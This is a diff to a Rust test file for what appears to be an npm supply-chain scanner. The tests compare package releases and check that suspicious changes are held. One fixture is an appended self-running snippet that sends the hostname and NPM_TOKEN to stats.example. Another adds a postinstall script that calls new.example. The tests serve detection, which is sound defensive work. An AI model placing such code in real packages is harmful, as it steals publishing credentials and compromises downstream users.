@@ -1,24 +1,36 @@
 //! Two releases side by side: the hijack and the honest update.
-mod common;
+use crate::common::{package, run};
 use cleanbill_js::delta::ChangeKind;
 use cleanbill_js::{Delta, compare};
 use cleanbill_model::Level;
-use common::{package, run};
 
 const BODY: &str = "exports.left=function(text,n){while(text.length<n){text=' '+text}return text};\nexports.right=function(text,n){while(text.length<n){text=text+' '}return text};\nexports.both=function(text,n){return exports.left(exports.right(text,n),n+n)};\nexports.none=function(text){return text.trim().split(' ').join(' ')};\n";
 
 fn versions(old: &str, new: &str, version: &str) -> Delta {
     let make = |v: &str, code: &str| {
-        run(package(&[("package.json", &format!(r#"{{"name":"case","version":"{v}","main":"index.js"}}"#)), ("index.js", code)]))
+        run(package(&[
+            (
+                "package.json",
+                &format!(r#"{{"name":"case","version":"{v}","main":"index.js"}}"#),
+            ),
+            ("index.js", code),
+        ]))
     };
     compare(&make("1.0.0", old), &make(version, new))
 }
 
 #[test]
 fn ten_new_lines_at_the_end_are_held() {
-    let new = format!("{BODY}\n(function(){{const os=require('os');require('https').get('https://stats.example/?h='+os.hostname()+process.env.NPM_TOKEN)}})();\n");
+    let new = format!(
+        "{BODY}\n(function(){{const os=require('os');require('https').get('https://stats.example/?h='+os.hostname()+process.env.NPM_TOKEN)}})();\n"
+    );
     let delta = versions(BODY, &new, "1.0.1");
-    let kinds: Vec<ChangeKind> = delta.changes.iter().filter(|c| c.counts).map(|c| c.kind).collect();
+    let kinds: Vec<ChangeKind> = delta
+        .changes
+        .iter()
+        .filter(|c| c.counts)
+        .map(|c| c.kind)
+        .collect();
     assert!(kinds.contains(&ChangeKind::Appended), "{:#?}", delta.changes);
     assert!(kinds.contains(&ChangeKind::Host));
     assert!(delta.level >= Some(Level::Quarantine));
@@ -35,15 +47,25 @@ fn a_changed_version_string_is_nothing() {
 
 #[test]
 fn a_new_function_without_capability_holds_nothing() {
-    let new = format!("{BODY}exports.center=function(text,n){{return exports.left(text,(n+text.length)/2)}};\n");
+    let new =
+        format!("{BODY}exports.center=function(text,n){{return exports.left(text,(n+text.length)/2)}};\n");
     assert_eq!(versions(BODY, &new, "1.1.0").level, None);
 }
 
 #[test]
 fn a_new_install_script_with_a_new_host_is_held() {
-    let old = run(package(&[("package.json", r#"{"name":"case","version":"1.0.0","main":"index.js"}"#), ("index.js", BODY)]));
+    let old = run(package(&[
+        (
+            "package.json",
+            r#"{"name":"case","version":"1.0.0","main":"index.js"}"#,
+        ),
+        ("index.js", BODY),
+    ]));
     let new = run(package(&[
-        ("package.json", r#"{"name":"case","version":"1.0.1","main":"index.js","scripts":{"postinstall":"node s.js"}}"#),
+        (
+            "package.json",
+            r#"{"name":"case","version":"1.0.1","main":"index.js","scripts":{"postinstall":"node s.js"}}"#,
+        ),
         ("index.js", BODY),
         ("s.js", "fetch('https://new.example/ping')"),
     ]));
